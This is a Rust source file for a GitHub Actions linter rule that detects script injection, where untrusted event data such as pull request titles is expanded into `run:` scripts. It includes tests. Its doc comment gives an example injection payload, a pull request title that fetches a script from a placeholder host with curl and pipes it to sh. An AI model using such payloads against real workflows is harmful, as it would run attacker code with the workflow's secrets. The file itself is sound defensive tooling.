use super::steps;
use crate::parse::yaml::{YNode, YamlFile};
use crate::rules::{Cx, Rule, declare_rule, rule_meta};
use crate::source::Loc;

declare_rule! {
    /// ## What it does
    /// Flags `${{ … }}` expressions in `run:` scripts (and `actions/github-script`'s
    /// `script:`) that expand attacker-controllable context: `github.event.*` (titles,
    /// bodies, branch names, commit messages, labels, …) and `github.head_ref`. Fields that
    /// are numbers, SHAs, ids, timestamps or booleans are exempt.
    ///
    /// ## Why is this bad?
    /// The expression is pasted into the script before the shell runs it. A pull request
    /// titled `a"; curl evil.sh | sh; echo "` runs that command in your workflow, with its
    /// token and secrets.
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "Title: ${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Use instead
    /// ```yaml
    /// - run: echo "Title: $TITLE"
    ///   env:
    ///     TITLE: ${{ github.event.pull_request.title }}
    /// ```
    ///
    /// ## References
    /// - Understanding the risk of script injections: <https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections>
    /// - zizmor `template-injection`: <https://docs.zizmor.sh/audits/#template-injection>
    pub struct ScriptInjection {
        code: "GH004",
        name: "script-injection",
        family: Workflow,
        severity: Error,
        summary: "untrusted event data expanded into a script",
        fix: "pass the value through `env:` and use the shell variable (`\"$TITLE\"`) in the script",
    }
}

const SAFE_SUFFIXES: &[&str] = &[
    ".number",
    ".id",
    ".sha",
    "_sha",
    ".before",
    ".after",
    "_at",
    ".draft",
    ".merged",
    ".size",
    ".run_id",
    ".run_number",
    ".run_attempt",
    ".node_id",
    ".commits",
    ".additions",
    ".deletions",
    ".changed_files",
    ".forced",
    ".created",
    ".deleted",
    ".action",
    ".private",
    ".fork",
];

/// Dangerous context references inside one `${{ … }}` expression. An expression whose
/// value is a boolean (a comparison, `contains(…)`, `startsWith(…)`, `endsWith(…)`) cannot
/// carry attacker text, and an index (`pull_requests[0].number`) is read as a property.
pub fn dangerous(expr: &str) -> Option<String> {
    let inner = expr
        .trim()
        .trim_start_matches("${{")
        .trim_end_matches("}}")
        .trim();
    if is_boolean(inner) {
        return None;
    }
    let indexed = without_indexes(inner);
    let tokens =
        indexed.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '*')));
    tokens
        .filter(|t| t.starts_with("github.event.") || *t == "github.head_ref")
        .find(|t| !SAFE_SUFFIXES.iter().any(|s| t.ends_with(s)))
        .map(str::to_string)
}

/// Whether the expression's value is `true` or `false`: one comparison or one boolean
/// function, with no `&&`/`||` (which yield one of their operands, text included).
/// Operators inside string literals (`format('<{0}>', …)`) do not count.
fn is_boolean(expr: &str) -> bool {
    let bare = without_literals(expr);
    if bare.contains("&&") || bare.contains("||") {
        return false;
    }
    let comparison = ["==", "!=", "<=", ">=", "<", ">"]
        .iter()
        .any(|operator| bare.contains(operator));
    let function = ["contains(", "startsWith(", "endsWith(", "!"]
        .iter()
        .any(|name| bare.starts_with(name))
        && bare.ends_with(')');
    comparison || function
}

/// The expression with the text of its `'…'` string literals removed (`''` is a quote).
fn without_literals(expr: &str) -> String {
    let mut out = String::with_capacity(expr.len());
    let mut in_literal = false;
    for c in expr.chars() {
        if c == '\'' {
            in_literal = !in_literal;
            out.push(c);
        } else if !in_literal {
            out.push(c);
        }
    }
    out
}

/// `a[0].b` and `a['x'].b` as `a.*.b`.
fn without_indexes(expr: &str) -> String {
    let mut out = String::with_capacity(expr.len());
    let mut depth = 0usize;
    for c in expr.chars() {
        match c {
            '[' => {
                if depth == 0 {
                    out.push_str(".*");
                }
                depth += 1;
            }
            ']' if depth > 0 => depth -= 1,
            _ if depth > 0 => {}
            _ => out.push(c),
        }
    }
    out
}

/// The types of `workflow_dispatch` inputs: a `choice`, `boolean` or `number` input holds
/// only what the workflow allows.
fn constrained_input(file: &YamlFile, reference: &str) -> bool {
    let Some(name) = reference.strip_prefix("github.event.inputs.") else {
        return false;
    };
    file.docs.iter().any(|doc| {
        doc.get("on")
            .or_else(|| doc.get("true"))
            .and_then(|on| on.path(&["workflow_dispatch", "inputs", name, "type"]))
            .and_then(YNode::as_str)
            .is_some_and(|kind| matches!(kind, "choice" | "boolean" | "number"))
    })
}

fn check(node: &YNode, file: &YamlFile, cx: &mut Cx<'_>) {
    let Some(script) = node.as_str() else { return };
    let mut rest = script;
    while let Some(start) = rest.find("${{") {
        let Some(len) = rest[start..].find("}}") else {
            break;
        };
        let expr = &rest[start..start + len + 2];
        if let Some(reference) = dangerous(expr).filter(|r| !constrained_input(file, r)) {
            let loc = locate(file, node.line, expr).unwrap_or_else(|| node.loc(&file.src));
            cx.report(
                loc,
                format!("`{reference}` is expanded into the script before it runs"),
            );
        }
        rest = &rest[start + len + 2..];
    }
}

/// The line of an expression, searching from the node's line on.
fn locate(file: &YamlFile, from: usize, expr: &str) -> Option<Loc> {
    (from..=file.src.line_count())
        .find(|&l| file.src.line_text(l).contains(expr))
        .map(|l| file.src.find_on_line(l, expr))
}

impl Rule for ScriptInjection {
    rule_meta!();

    fn workflow(&self, file: &YamlFile, cx: &mut Cx<'_>) {
        for step in steps(file) {
            if let Some(run) = step.get("run") {
                check(run, file, cx);
            }
            let uses = step.get("uses").and_then(YNode::as_str).unwrap_or("");
            if uses.starts_with("actions/github-script@")
                && let Some(script) = step.path(&["with", "script"])
            {
                check(script, file, cx);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::dangerous;

    #[test]
    fn booleans_and_indexed_numbers_are_safe() {
        for safe in [
            "${{ github.event.workflow_run.pull_requests[0].number }}",
            "${{ github.event.label.name == 'bug' }}",
            "${{ contains(github.event.pull_request.title, 'wip') }}",
            "${{ github.event.commits.*.id }}",
        ] {
            assert_eq!(dangerous(safe), None, "{safe}");
        }
        for unsafe_ in [
            "${{ github.event.pull_request.title }}",
            "${{ github.event.label.name == 'x' && github.event.issue.title }}",
            "${{ github.event.pull_requests[0].head.ref }}",
            "${{ format('{0} <{1}>', github.event.head_commit.author.name, 'x') }}",
            "${{ format('<!-- {0} -->', github.event.pull_request.body) }}",
        ] {
            assert!(dangerous(unsafe_).is_some(), "{unsafe_}");
        }
    }

    #[test]
    fn dangerous_contexts() {
        assert!(dangerous("${{ github.event.pull_request.title }}").is_some());
        assert!(dangerous("${{ github.head_ref }}").is_some());
        assert!(dangerous("${{ github.event.pull_request.number }}").is_none());
        assert!(dangerous("${{ github.event.pull_request.head.sha }}").is_none());
        assert!(dangerous("${{ github.sha }}").is_none());
        assert!(dangerous("${{ toJSON(github.event.issue.body) }}").is_some());
    }
}
